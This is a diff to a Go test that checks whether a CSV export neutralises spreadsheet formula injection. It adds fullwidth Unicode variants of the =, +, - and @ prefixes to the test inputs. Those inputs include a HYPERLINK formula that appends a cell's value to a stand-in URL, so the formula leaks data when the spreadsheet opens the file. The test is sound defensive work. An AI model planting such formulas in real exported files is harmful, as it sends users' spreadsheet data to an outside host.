@@ -183,7 +183,7 @@ func TestJSONKeepsItsValueWhenHiddenTextIsEscaped(t *testing.T) {
 
 // The attack: a name that a spreadsheet computes, and so sends cells away.
 func TestFormulasAreDefusedInCSV(t *testing.T) {
-	for _, name := range []string{`=HYPERLINK("http://x/"&A1)`, "+1", "-1", "@SUM(A1)"} {
+	for _, name := range []string{`=HYPERLINK("http://x/"&A1)`, "+1", "-1", "@SUM(A1)", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)"} {
 		got := printed(t, Form{Format: "csv"}, func(f *Form) error { return List(f, []thing{{ID: name}}, columns[:1]) })
 		if cell := strings.TrimPrefix(strings.Trim(strings.Split(got, "\n")[1], `"`), `"`); cell[0] != '\'' {
 			t.Errorf("%s is printed as %q", name, cell)
